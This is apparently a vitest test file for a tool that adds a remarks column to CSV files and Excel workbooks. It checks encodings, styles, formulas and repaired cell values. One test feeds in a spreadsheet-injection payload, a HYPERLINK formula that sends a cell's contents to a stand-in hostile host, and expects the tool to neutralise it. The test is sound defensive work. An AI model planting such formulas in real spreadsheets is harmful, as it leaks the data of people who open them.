import { existsSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { read } from 'hucre'
import { describe, expect, test } from 'vitest'
import { annotateTable } from './annotate.ts'
import { readAll, readTexts } from './read-all.builder.ts'
import type { Remark } from './remark.ts'
import { TABLE_LIMITS } from './table-limits.ts'
import { encodeText } from './text/encode-text.ts'
import type { FileEncoding } from './text/text-encoding.ts'
import { aFile, aWorkbook, temporaryPath } from './workbook.builder.ts'
import { columnLetters } from './xlsx/cell-reference.ts'
import { ZipArchive } from './xlsx/zip-archive.ts'

const remarks = new Map<number, readonly Remark[]>([
  [
    3,
    [
      { column: 0, text: 'NIK harus 16 digit' },
      { column: 1, text: 'Nama kosong' },
    ],
  ],
  [2, [{ column: null, text: 'Baris ganda' }]],
])

async function annotated(source: string, options: Parameters<typeof annotateTable>[4] = {}, notes = remarks) {
  const out = temporaryPath('annotated')
  await annotateTable(source, undefined, notes, out, options)
  return out
}

async function partOf(path: string, name: string) {
  const archive = await ZipArchive.open(path, TABLE_LIMITS)
  return (await archive.readSmall(name)).toString()
}

describe('a CSV comes back', () => {
  const people = 'NIK;Nama\r\n1;Émilie\r\n2\r\n\r\n"a;b";"c ""d"""\r\n'

  test('with a note per row in a last column, and rows where they were', async () => {
    const out = await annotated(await aFile(people))
    expect(await readFile(out, 'utf8')).toBe(
      'NIK;Nama;Catatan Payung\r\n1;Émilie;Baris ganda\r\n2;;NIK harus 16 digit; Nama kosong\r\n\r\n"a;b";"c ""d"""\r\n'.replace(
        'NIK harus 16 digit; Nama kosong',
        '"NIK harus 16 digit; Nama kosong"',
      ),
    )
  })

  test.each<[FileEncoding, boolean]>([
    ['utf-8', false],
    ['utf-8', true],
    ['utf-16le', true],
    ['utf-16be', true],
    ['windows-1252', false],
  ])('in its own encoding: %s, byte order mark %s', async (encoding, mark) => {
    const text = `${mark ? '\ufeff' : ''}NIK\tNama\r\n1\tÉmilie “x”\r\n`
    const out = await annotated(await aFile(encodeText(text, encoding)))
    const expected = text.replace('Nama\r', 'Nama\tCatatan Payung\r').replace('x”\r', 'x”\tBaris ganda\r')
    expect(await readFile(out)).toEqual(encodeText(expected, encoding))
  })

  test('with the line that declares its delimiter', async () => {
    const out = await annotated(await aFile('sep=|\r\nNIK|Nama\r\n1|Ani\r\n'))
    expect(await readFile(out, 'utf8')).toBe('sep=|\r\nNIK|Nama|Catatan Payung\r\n1|Ani|Baris ganda\r\n')
  })

  test('a second time with new notes in place of the old', async () => {
    const once = await annotated(await aFile(people))
    const again = await annotated(once, {}, new Map([[5, [{ column: 0, text: '=baru' }]]]))
    expect(await readTexts(again)).toEqual({
      1: ['NIK', 'Nama', 'Catatan Payung'],
      2: ['1', 'Émilie'],
      3: ['2'],
      5: ['a;b', 'c "d"', '=baru'],
    })
  })

  test('with nothing in it that a spreadsheet runs, and is read again as it was sent', async () => {
    const sent = await aFile(
      '=NIK;Nama;Telepon;Iuran\n1;=HYPERLINK("http://jahat.example/"&A2);+62 812-1;-16.800\n2; ＝1+1;-;+5\n"3\t@x";"Budi,=1";"\'=1";--\n',
    )
    const out = await annotated(sent, {}, new Map())
    expect(await readFile(out, 'utf8')).toBe(
      `'=NIK;Nama;Telepon;Iuran;Catatan Payung\r\n1;"'=HYPERLINK(""http://jahat.example/""&A2)";'+62 812-1;-16.800\r\n2;' ＝1+1;-;+5\r\n"3\t'@x";"Budi,'=1";'=1;--\r\n`,
    )
    const again = await annotated(out, {}, new Map())
    expect(await readFile(again)).toEqual(await readFile(out))
    const { 1: header, ...rows } = await readTexts(out)
    expect({ 1: header?.slice(0, 4), ...rows }).toEqual(await readTexts(sent))
  })
})

test.each([
  ['a CSV', () => aFile('NIK;Nama\n1;Ani\n2;Budi\n')],
  ['a workbook', () => source()],
])(
  '%s says in the title of its notes what is to be said of it as a whole, and a second time what is so then',
  async (_, file) => {
    const once = await annotated(await file(), { wholeFile: ['2 dari 2 NIK berakhir 0', 'Minta berkas; lain'] })
    expect((await readTexts(once))[1]?.[2]).toBe('Catatan Payung: 2 dari 2 NIK berakhir 0; Minta berkas; lain')
    expect((await readTexts(once))[2]?.[2]).toBe('Baris ganda')
    expect((await readTexts(await annotated(once)))[1]).toEqual(['NIK', 'Nama', 'Catatan Payung'])
  },
)

test('a CSV whose notes somebody moved keeps its columns where they are', async () => {
  const out = await annotated(
    await aFile('NIK;Catatan Payung;Desa\n1;lama;Permata\n2;lama;Kubu\n'),
    {},
    new Map([[3, [{ column: 0, text: 'baru' }]]]),
  )
  expect(await readTexts(out)).toEqual({
    1: ['NIK', 'Catatan Payung', 'Desa'],
    2: ['1', '', 'Permata'],
    3: ['2', 'baru', 'Kubu'],
  })
})

const styles =
  '<styleSheet xmlns="m"><fonts><font/></fonts><fills count="2"><fill><patternFill/></fill><fill><patternFill/></fill></fills>' +
  '<cellXfs count="2"><xf numFmtId="0" fillId="0"/><xf numFmtId="14" fillId="1"><alignment wrapText="1"/></xf></cellXfs><dxfs><dxf><fill/></dxf></dxfs></styleSheet>'
const data =
  '<row r="1" spans="1:2"><c r="A1" s="1" t="inlineStr"><is><t>NIK</t></is></c><c r="B1" t="s"><v>0</v></c></row>' +
  '<row r="2" ht="30"><c r="A2" s="1"><v>29540</v></c><c r="B2"><f>A2&amp;"x"</f><v>7</v></c></row>' +
  '<row r="3"><c r="A3" s="1"><v>29541</v></c></row><row r="4"/><row><c><v>9</v></c></row>'
const source = () =>
  aWorkbook({
    sheets: [
      {
        name: 'Data',
        data,
        head: '<dimension ref="A1:B3"/><cols><col min="1" max="1" width="20"/><col min="2" max="16384" width="9"/></cols>',
      },
      { name: 'Lain', data: '<row r="1"><c r="A1"><v>1</v></c></row>' },
    ],
    sharedStrings: '<si><t>Nama</t></si>',
    styles,
    parts: { 'xl/media/foto.png': Buffer.from([0x89, 1, 2, 3]), 'xl/theme/theme1.xml': '<theme/>' },
  })

describe('a workbook comes back', () => {
  test('with a note per row in a last column', async () => {
    expect(await readTexts(await annotated(await source()))).toEqual({
      1: ['NIK', 'Nama', 'Catatan Payung'],
      2: ['1980-11-15', '7', 'Baris ganda'],
      3: ['1980-11-16', '', 'NIK harus 16 digit; Nama kosong'],
      5: ['9'],
    })
  })

  test('with formulas, row heights and dates as they were', async () => {
    const sheet = await partOf(await annotated(await source()), 'xl/worksheets/sheet1.xml')
    expect(sheet).toContain('<c r="B2"><f>A2&amp;&quot;x&quot;</f><v>7</v></c>')
    expect(sheet).toContain('<row r="2" ht="30">')
    expect(sheet).not.toContain('spans')
  })

  test('with its faulty cells filled, missing ones too, and their formats kept', async () => {
    const out = await annotated(await source())
    const sheet = await partOf(out, 'xl/worksheets/sheet1.xml')
    expect(sheet).toContain('<c r="A3" s="3"><v>29541</v></c><c r="B3" s="2"></c>')
    const marked = await partOf(out, 'xl/styles.xml')
    expect(marked).toContain('<fgColor rgb="FFFDE68A"/>')
    expect(marked).toContain(
      '<xf numFmtId="0" fillId="2" applyFill="1"></xf><xf numFmtId="14" fillId="2" applyFill="1"><alignment wrapText="1"></alignment></xf></cellXfs>',
    )
  })

  test('with cells in the order of their columns, also where one is put in front', async () => {
    const path = await aWorkbook({
      sheets: [{ name: 'Data', data: '<row r="1"><c r="B1"><v>1</v></c><c r="C1"><v>2</v></c></row>' }],
    })
    const out = await annotated(path, { headerRow: 9 }, new Map([[1, [{ column: 0, text: 'kosong' }]]]))
    const sheet = await partOf(out, 'xl/worksheets/sheet1.xml')
    expect([...sheet.matchAll(/<c r="([A-Z]+1)"/g)].map((match) => match[1])).toEqual(['A1', 'B1', 'C1', 'D1'])
  })

  test('with a wide note column, and the widths of the others', async () => {
    const sheet = await partOf(await annotated(await source()), 'xl/worksheets/sheet1.xml')
    const columns = [...sheet.matchAll(/<col ([^>]*)>/g)].map((match) => match[1])
    expect(columns).toEqual([
      'min="1" max="1" width="20"',
      'min="2" max="2" width="9"',
      'min="3" max="3" width="60" customWidth="1"',
      'min="4" max="16384" width="9"',
    ])
    expect(sheet).toContain('<dimension ref="A1:C3">')
  })

  test('with every other part untouched', async () => {
    const path = await source()
    const out = await annotated(path)
    const before = await ZipArchive.open(path, TABLE_LIMITS)
    const after = await ZipArchive.open(out, TABLE_LIMITS)
    expect(after.names()).toEqual(before.names())
    for (const name of before.names()) {
      if (/sheet1|styles/.test(name)) continue
      expect(await after.readSmall(name)).toEqual(await before.readSmall(name))
    }
  })

  test('a second time with new notes in place of the old', async () => {
    const again = await annotated(await annotated(await source()), {}, new Map([[5, [{ column: 0, text: 'baru' }]]]))
    expect(await readTexts(again)).toMatchObject({
      1: ['NIK', 'Nama', 'Catatan Payung'],
      2: ['1980-11-15', '7'],
      5: ['9', '', 'baru'],
    })
  })

  test('so that another library reads it too', async () => {
    const workbook = await read(await readFile(await annotated(await source())))
    expect(workbook.sheets.map((sheet) => sheet.name)).toEqual(['Data', 'Lain'])
    expect(workbook.sheets[0]?.rows[1]).toEqual([new Date('1980-11-15T00:00:00Z'), 7, 'Baris ganda'])
  })

  test('below title rows, with the header where the caller says', async () => {
    const rows = [
      ['Daftar', '2026'],
      ['NIK', 'Nama'],
      ['1', 'Ani'],
    ]
    const data = rows.map(
      (row, r) =>
        `<row r="${r + 1}">${row.map((text, c) => `<c r="${columnLetters(c)}${r + 1}" t="str"><v>${text}</v></c>`).join('')}</row>`,
    )
    const path = await aWorkbook({ sheets: [{ name: 'Data', data: data.join('') }] })
    const out = await annotated(path, { headerRow: 2 })
    expect((await readTexts(out))[2]).toEqual(['NIK', 'Nama', 'Catatan Payung'])
    expect((await readTexts(out))[1]).toEqual(['Daftar', '2026'])
  })

  test('when its XML has prefixes and no styles', async () => {
    const parts = {
      'xl/worksheets/sheet1.xml':
        '<x:worksheet xmlns:x="urn:x"><x:sheetData><x:row r="1"><x:c r="A1"><x:v>1</x:v></x:c><x:c r="B1"><x:v>2</x:v></x:c></x:row><x:row r="2"><x:c r="A2"><x:v>3</x:v></x:c></x:row></x:sheetData></x:worksheet>',
    }
    const out = await annotated(await aWorkbook({ sheets: [{ name: 'Data', data: '' }], parts }))
    expect(await readTexts(out)).toEqual({ 1: ['1', '2', 'Catatan Payung'], 2: ['3', '', 'Baris ganda'] })
  })

  test('from remarks that stream in by row number', async () => {
    async function* streamed() {
      for (const row of [2, 3, 99]) yield [row, [{ column: 0, text: `salah ${row}` }]] as const
    }
    const out = temporaryPath('annotated.xlsx')
    await annotateTable(await source(), 'Data', streamed(), out)
    expect((await readAll(out)).map((row) => row.cells[2]?.text)).toEqual([
      'Catatan Payung',
      'salah 2',
      'salah 3',
      undefined,
    ])
  })
})

test('remarks that fail half-way leave no file', async () => {
  async function* failing() {
    yield [2, [{ column: 0, text: 'x' }]] as const
    throw new Error('connection lost')
  }
  for (const path of [await source(), await aFile('a;b\n1;2\n3;4\n')]) {
    const out = temporaryPath('annotated')
    await expect(annotateTable(path, undefined, failing(), out)).rejects.toThrow('connection lost')
    expect(existsSync(out)).toBe(false)
  }
})

test('many parts, each just small enough, are refused before they are copied', async () => {
  const parts = Object.fromEntries(Array.from({ length: 20 }, (_, index) => [`xl/media/${index}`, 'x'.repeat(1000)]))
  const path = await aWorkbook({ sheets: [{ name: 'Data', data }], styles, parts })
  await expect(annotated(path, { limits: { unzippedBytesMax: 10_000 } })).rejects.toMatchObject({
    code: 'FILE_TOO_LARGE',
  })
})

describe('what was repaired', () => {
  async function* repairs() {
    yield [3, new Map([[0, '6112055511820202']])] as const
    yield [
      4,
      new Map([
        [1, ''],
        [3, '=1+1 <&>'],
      ]),
    ] as const
  }

  test('stands in a CSV in the place of what was there, quoted as its delimiter needs it', async () => {
    const source = await aFile('NIK;Nama\r\n1;Ana\r\n61;Budi\r\n7;Cici\r\n')
    const out = await annotated(source, { repairs: repairs() }, new Map())
    expect(await readFile(out, 'utf8')).toBe(
      "NIK;Nama;Catatan Payung\r\n1;Ana\r\n6112055511820202;Budi\r\n7;;;'=1+1 <&>\r\n",
    )
  })

  test('stands in a workbook as a text, in the style that the cell had', async () => {
    const data = `<row r="1"><c r="A1" t="inlineStr"><is><t>NIK</t></is></c><c r="B1" t="inlineStr"><is><t>Nama</t></is></c></row>
      <row r="3"><c r="A3" s="1"><v>6.11E15</v></c><c r="B3" t="inlineStr"><is><t>Budi</t></is></c></row>
      <row r="4"><c r="A4"><f>1+1</f><v>2</v></c><c r="B4" t="inlineStr"><is><t>Cici</t></is></c></row>`
    const out = await annotated(
      await aWorkbook({ sheets: [{ name: 'Usulan', data }] }),
      { repairs: repairs() },
      new Map(),
    )
    expect(await readTexts(out)).toEqual({
      1: ['NIK', 'Nama', 'Catatan Payung'],
      3: ['6112055511820202', 'Budi'],
      4: ['2', '', '', '=1+1 <&>'],
    })
    const xml = await partOf(out, 'xl/worksheets/sheet1.xml')
    expect(xml).toContain('<c s="1" t="inlineStr" r="A3">')
    expect(xml).toContain('<f>1+1</f>')
  })

  test('leaves no formula named that it has replaced: neither in the calculation chain nor by cells that shared it', async () => {
    const data = `<row r="1"><c r="A1" t="inlineStr"><is><t>NIK</t></is></c><c r="B1" t="inlineStr"><is><t>Nama</t></is></c></row>
      <row r="3"><c r="A3"><f t="shared" ref="A3:A5" si="0">C3</f><v>61</v></c><c r="B3"><f t="shared" ref="B3:B5" si="1">D3</f><v>7</v></c></row>
      <row r="5"><c r="A5"><f t="shared" si="0"/><v>62</v></c><c r="B5"><f t="shared" si="1"/><v>8</v></c></row>`
    const chain =
      '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="A3" i="1"/></calcChain>'
    const source = await aWorkbook({
      sheets: [{ name: 'Usulan', data }],
      parts: {
        '[Content_Types].xml':
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"/></Types>',
        'xl/_rels/workbook.xml.rels':
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="s0" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="c" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/calcChain" Target="calcChain.xml"/></Relationships>',
        'xl/calcChain.xml': chain,
      },
    })
    const out = await annotated(source, { repairs: repairs() }, new Map())
    const archive = await ZipArchive.open(out, TABLE_LIMITS)
    expect(archive.names()).not.toContain('xl/calcChain.xml')
    for (const part of ['[Content_Types].xml', 'xl/_rels/workbook.xml.rels'])
      expect((await archive.readSmall(part)).toString()).not.toMatch(/calcChain/i)
    const xml = await partOf(out, 'xl/worksheets/sheet1.xml')
    expect(xml).not.toContain('si="0"')
    expect(xml.match(/si="1"/g)).toHaveLength(2)
    expect(await readTexts(out)).toMatchObject({ 3: ['6112055511820202', '7'], 5: ['62', '8'] })
    const untouched = await annotated(source)
    expect(await partOf(untouched, 'xl/calcChain.xml')).toBe(chain)
  })
})
